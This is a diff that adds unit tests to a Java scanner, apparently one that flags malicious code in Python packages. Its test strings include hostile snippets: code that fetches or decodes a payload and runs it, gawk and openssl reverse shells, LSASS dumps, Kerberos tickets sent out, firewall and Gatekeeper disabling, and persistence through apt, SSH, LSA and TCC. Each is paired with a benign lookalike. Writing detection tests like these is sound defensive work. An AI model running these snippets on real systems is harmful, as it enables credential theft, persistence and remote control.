@@ -2352,6 +2352,162 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/mux.py", tmuxRead))).isEmpty();
   }
 
+  @Test
+  void codeHandedToAProfilerOrTheDebuggerIsExecuted() {
+    String profiled =
+        "import base64, cProfile, "
+            + "zlib\ncProfile.run(zlib.decompress(base64.b64decode(P)).decode())\n";
+    String debugged = "import pdb, urllib.request\npdb.run(urllib.request.urlopen(URL).read())\n";
+    String profiling = "import cProfile\ncProfile.run('main()', 'out.prof')\n";
+    String calculator =
+        "def start(profile, directory):\n    profile.run(directory, None, 'out.txt')\n";
+
+    assertThat(levelIn(profiled, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(debugged, "exec-fetched")).isEqualTo(RiskLevel.CRITICAL);
+    // a literal statement profiled, and an object that happens to be called profile
+    assertThat(check(wheelWith("pkg/perf.py", profiling))).isEmpty();
+    assertThat(check(wheelWith("pkg/calc.py", calculator))).isEmpty();
+  }
+
+  @Test
+  void aCallOnAModuleFoundByALookupIsFollowedThoughItsNameIsNeverWritten() {
+    String execv =
+        "m = __import__('o' + 's')\n"
+            + "m.execv('/bin/sh', ['sh', '-c', 'curl -fsSL https://x.example/i | sh'])\n";
+    String plugin =
+        "import importlib\nmod = importlib.import_module(NAME)\nmod.execute(query, timeout=5)\n";
+
+    assertThat(levelIn(execv, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/plugins.py", plugin))).isEmpty();
+  }
+
+  @Test
+  void linuxAndMacosDefencesSwitchedOffWeakenTheHost() {
+    String selinux = "import subprocess\nsubprocess.run(['setenforce', '0'])\n";
+    String firewall = "import os\nos.system('ufw disable; iptables -F')\n";
+    String gatekeeper = "import subprocess\nsubprocess.run(['spctl', '--master-disable'])\n";
+    String status =
+        "import subprocess\nfor c in (['getenforce'], ['ufw', 'status'], ['iptables', '-L']):\n"
+            + "    subprocess.run(c)\n";
+
+    assertThat(levelIn(selinux, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(firewall, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(gatekeeper, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/status.py", status))).isEmpty();
+  }
+
+  @Test
+  void lsassDumpedAndKerberosTicketsSentAreStolen() {
+    String comsvcs =
+        "import subprocess\nsubprocess.run(['rundll32.exe', r'C:\\Windows\\System32\\comsvcs.dll,',"
+            + " 'MiniDump', pid, out, 'full'])\n";
+    String procdump = "import os\nos.system('procdump64.exe -accepteula -ma lsass.exe out.dmp')\n";
+    String tickets =
+        "import glob, requests\nfor p in glob.glob('/tmp/krb5cc_*') + ['/etc/krb5.keytab']:\n"
+            + "    requests.post(URL, data=open(p, 'rb').read())\n";
+    String ownDump =
+        "import ctypes\ndbghelp = ctypes.windll.dbghelp\n"
+            + "dbghelp.MiniDumpWriteDump(kernel32.GetCurrentProcess(), pid, out, 2, None, "
+            + "None, None)\n";
+    String cachePath = "import os\nprint(os.environ.get('KRB5CCNAME', 'unset'))\n";
+
+    assertThat(levelIn(comsvcs, "lsass-dump")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(procdump, "lsass-dump")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(tickets, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    // a crash dump of its own process, and the cache's variable printed
+    assertThat(check(wheelWith("pkg/dump.py", ownDump))).isEmpty();
+    assertThat(check(wheelWith("pkg/krb.py", cachePath))).isEmpty();
+  }
+
+  @Test
+  void gawksNetworkFilesAndAShellPipedThroughOpensslAreReverseShells() {
+    String gawk =
+        "import subprocess\nsubprocess.Popen(['gawk', 'BEGIN { s = \"/inet/tcp/0/10.0.0.9/4444\";"
+            + " while ((s |& getline c) > 0) { print c |& s } }'])\n";
+    String openssl =
+        "import os\n"
+            + "os.system('/bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect h:443 "
+            + "> /tmp/f')\n";
+    String certificate =
+        "import subprocess\nsubprocess.run(['openssl', 's_client', '-connect', 'h:443', "
+            + "'-showcerts'])\n";
+
+    assertThat(levelIn(gawk, "dev-tcp")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(openssl, "dev-tcp")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/tls.py", certificate))).isEmpty();
+  }
+
+  @Test
+  void aptHooksSshCommandsLsaPackagesAndCredentialHelpersRunOnTheirOwn() {
+    String apt =
+        "import sys\nwith open('/etc/apt/apt.conf.d/95sync', 'w') as fh:\n"
+            + "    fh.write('APT::Update::Pre-Invoke {\"%s -m pkg\";};' % sys.executable)\n";
+    String ssh =
+        "import os\nconfig = os.path.join(os.path.expanduser('~'), '.ssh', 'config')\n"
+            + "with open(config, 'a') as fh:\n"
+            + "    fh.write(\"\"\"\nHost *\n    PermitLocalCommand yes\n    LocalCommand "
+            + "~/.x &\n\"\"\")\n";
+    String lsa =
+        "import winreg\n"
+            + "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "
+            + "r'SYSTEM\\CurrentControlSet\\Control\\Lsa')\n"
+            + "winreg.SetValueEx(key, 'Notification Packages', 0, winreg.REG_MULTI_SZ, "
+            + "['scecli', 'pwf'])\n";
+    String docker =
+        "import json, os\nhelper = os.path.expanduser('~/.local/bin/docker-credential-sync')\n"
+            + "with open(helper, 'w') as fh:\n    fh.write(SCRIPT)\n"
+            + "config['credsStore'] = 'sync'\n";
+    String aptUpdate = "import subprocess\nsubprocess.run(['apt-get', 'update'])\n";
+    String sshHosts =
+        "import os\nconfig = os.path.join(os.path.expanduser('~'), '.ssh', 'config')\n"
+            + "hosts = [l.split()[1] for l in open(config) if l.startswith('Host ')]\n";
+    String lsaRead =
+        "import winreg\n"
+            + "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "
+            + "r'SYSTEM\\CurrentControlSet\\Control\\Lsa')\n"
+            + "packages, _ = winreg.QueryValueEx(key, 'Notification Packages')\n";
+    String dockerClient =
+        "import subprocess\nstore = config.get('credsStore')\nPREFIX = 'docker-credential-'\n"
+            + "out = subprocess.run([PREFIX + store, 'get'], input=registry, "
+            + "capture_output=True)\n";
+
+    assertThat(levelIn(apt, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(ssh, "ssh-config-runs-command")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(lsa, "lsa-package-registered")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(docker, "docker-credential-helper-planted")).isEqualTo(RiskLevel.HIGH);
+    // the package lists updated, SSH's hosts listed, LSA's packages read, a helper asked
+    assertThat(check(wheelWith("pkg/apt.py", aptUpdate))).isEmpty();
+    assertThat(check(wheelWith("pkg/ssh.py", sshHosts))).isEmpty();
+    assertThat(check(wheelWith("pkg/lsa.py", lsaRead))).isEmpty();
+    assertThat(check(wheelWith("pkg/auth.py", dockerClient))).isEmpty();
+  }
+
+  @Test
+  void aDownloadFreedFromQuarantineAndPrivacyGrantsWrittenIntoTccAreHigh() {
+    String quarantine =
+        "import subprocess, urllib.request\nurllib.request.urlretrieve(URL, '/tmp/H.zip')\n"
+            + "subprocess.run(['xattr', '-dr', 'com.apple.quarantine', '/tmp/H.app'])\n";
+    String tcc =
+        "import os, sqlite3\n"
+            + "db = os.path.expanduser('~/Library/Application Support/com.apple.TCC/TCC.db')\n"
+            + "sqlite3.connect(db).execute(\"INSERT OR REPLACE INTO access VALUES (?, ?, 0, "
+            + "2)\", row)\n";
+    String ownBinary =
+        "import subprocess\nsubprocess.run(['xattr', '-d', 'com.apple.quarantine', "
+            + "BUNDLED_DRIVER])\n";
+    String tccRead =
+        "import os, sqlite3\n"
+            + "db = os.path.expanduser('~/Library/Application Support/com.apple.TCC/TCC.db')\n"
+            + "rows = sqlite3.connect(db).execute('SELECT service, client FROM "
+            + "access').fetchall()\n";
+
+    assertThat(levelIn(quarantine, "downloads-past-gatekeeper")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(tcc, "grants-privacy-permissions")).isEqualTo(RiskLevel.HIGH);
+    // its own bundled program freed, and the permissions read
+    assertThat(check(wheelWith("pkg/driver.py", ownBinary))).isEmpty();
+    assertThat(check(wheelWith("pkg/tcc.py", tccRead))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
